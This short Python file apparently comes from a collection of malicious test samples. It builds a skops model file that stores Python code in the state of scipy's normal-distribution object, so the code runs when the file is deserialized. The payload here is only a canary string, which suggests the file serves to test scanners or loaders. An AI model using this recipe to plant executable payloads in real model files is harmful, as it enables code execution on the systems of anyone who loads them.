"""ObjectNode of scipy's distribution: its state is executed."""

from __future__ import annotations

from malicious_samples.recipes import dictionary, json_node, node, python, skops


def build(canary: str) -> bytes:
    state = dictionary(_parse_arg_template=json_node(python(canary)))
    distribution = "scipy.stats._continuous_distns", "norm_gen"
    return skops(node("ObjectNode", *distribution, content=state))
